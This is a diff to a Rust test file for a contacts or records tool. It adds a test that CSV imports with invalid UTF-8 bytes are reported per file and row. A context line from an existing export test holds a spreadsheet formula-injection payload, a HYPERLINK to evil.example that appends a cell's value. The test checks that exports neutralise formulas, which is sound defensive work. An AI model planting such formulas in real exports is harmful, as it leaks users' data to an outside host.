@@ -410,3 +410,47 @@ fn csv_exports_mark_formulas_as_text_unless_raw_formulas_is_given() {
         ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "@SUM(A1:A9)"]
     );
 }
+
+#[test]
+fn bytes_that_are_not_utf8_are_named_by_file_and_row_in_the_import_report() {
+    let env = Env::init("personal");
+    let csv = env.dir.path().join("people.csv");
+    std::fs::write(
+        &csv,
+        b"First name,Last name\nAda,Lovelace\nJ\xffrg,M\xc3\n\xe2\x82Bob,Smith\n",
+    )
+    .unwrap();
+    let out = env.run(&[
+        "import",
+        csv.to_str().unwrap(),
+        "--section",
+        "contacts",
+        "--encoding",
+        "utf-8",
+    ]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{err}");
+    let warnings: Vec<&str> = err.lines().filter(|l| l.starts_with("warning: ")).collect();
+    assert_eq!(warnings.len(), 2, "one warning per row with bad bytes: {err}");
+    assert!(
+        warnings[0].contains("people.csv, row 3") && warnings[0].contains("U+FFFD"),
+        "{err}"
+    );
+    assert!(warnings[1].contains("people.csv, row 4"), "{err}");
+    let names: Vec<String> = env
+        .list_json(&["contacts"])
+        .iter()
+        .map(|r| field(r, "first_name").as_str().unwrap().to_string())
+        .collect();
+    assert!(
+        names.contains(&"J\u{FFFD}rg".to_string()),
+        "the rows are imported all the same: {names:?}"
+    );
+
+    std::fs::write(&csv, "First name\nZoë \u{FFFD} as typed\n").unwrap();
+    let clean = env.run(&["import", csv.to_str().unwrap(), "--section", "contacts"]);
+    assert!(
+        !String::from_utf8_lossy(&clean.stderr).contains("warning"),
+        "a U+FFFD that is in the file is no warning"
+    );
+}
